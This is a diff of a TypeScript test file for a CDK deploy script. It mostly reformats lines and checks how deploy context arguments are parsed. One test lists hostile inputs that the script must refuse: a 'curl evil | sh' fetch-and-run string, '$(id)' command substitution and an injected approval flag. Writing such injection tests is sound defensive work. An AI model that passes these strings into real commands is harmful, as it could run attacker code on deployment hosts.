@@ -8,7 +8,14 @@ import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, describe, test } from 'node:test';
-import { afterRollback, chooseRollback, DeployHistoryError, HISTORY_LIMIT, parseHistory, recordDeploy } from '../../../cdk/scripts/deploy-history.js';
+import {
+  afterRollback,
+  chooseRollback,
+  DeployHistoryError,
+  HISTORY_LIMIT,
+  parseHistory,
+  recordDeploy,
+} from '../../../cdk/scripts/deploy-history.js';
 import { PROJECT_ROOT } from '../../../cdk/lib/synth.js';
 
 const sha = (c: string) => c.repeat(40).slice(0, 40);
@@ -74,21 +81,45 @@ describe('cdk-deploy.sh', () => {
   after(() => rmSync(dir, { recursive: true, force: true }));
   const script = join(PROJECT_ROOT, 'cdk', 'scripts', 'cdk-deploy.sh');
   const runWith = (context: string, version = A, stage = 'prod') =>
-    spawnSync('bash', [script, version], { cwd: dir, encoding: 'utf8', env: { PATH: `${dir}:${process.env.PATH}`, STAGE: stage, FLEETMEDIC_CONTEXT: context } });
+    spawnSync('bash', [script, version], {
+      cwd: dir,
+      encoding: 'utf8',
+      env: { PATH: `${dir}:${process.env.PATH}`, STAGE: stage, FLEETMEDIC_CONTEXT: context },
+    });
 
   test('deploys the stage at that version with the -c pairs from FLEETMEDIC_CONTEXT, each one argument', () => {
     const r = runWith('  -c alertEmail=oncall@example.com   -c operatorRoleNames=a,b ');
     assert.equal(r.status, 0, r.stderr);
     assert.deepEqual(r.stdout.trim().split('\n'), [
-      'cdk', 'deploy', 'Fleetmedic-prod', '--require-approval', 'never', '--no-notices',
-      '-c', 'stage=prod', '-c', `version=${A}`, '-c', 'alertEmail=oncall@example.com', '-c', 'operatorRoleNames=a,b',
-      '--outputs-file', 'cdk-outputs.json',
+      'cdk',
+      'deploy',
+      'Fleetmedic-prod',
+      '--require-approval',
+      'never',
+      '--no-notices',
+      '-c',
+      'stage=prod',
+      '-c',
+      `version=${A}`,
+      '-c',
+      'alertEmail=oncall@example.com',
+      '-c',
+      'operatorRoleNames=a,b',
+      '--outputs-file',
+      'cdk-outputs.json',
     ]);
     assert.equal(runWith('').status, 0, 'no context at all');
   });
 
   test('refuses anything in FLEETMEDIC_CONTEXT that is not a -c key=value pair, and runs nothing then', () => {
-    for (const bad of ['--app "curl evil | sh"', '-c ok=1 --require-approval broadening', '-c', '-c =x', '-c $(id)=1', 'alertEmail=x']) {
+    for (const bad of [
+      '--app "curl evil | sh"',
+      '-c ok=1 --require-approval broadening',
+      '-c',
+      '-c =x',
+      '-c $(id)=1',
+      'alertEmail=x',
+    ]) {
       const r = runWith(bad);
       assert.notEqual(r.status, 0, bad);
       assert.equal(r.stdout, '', `${bad}: cdk was not run`);
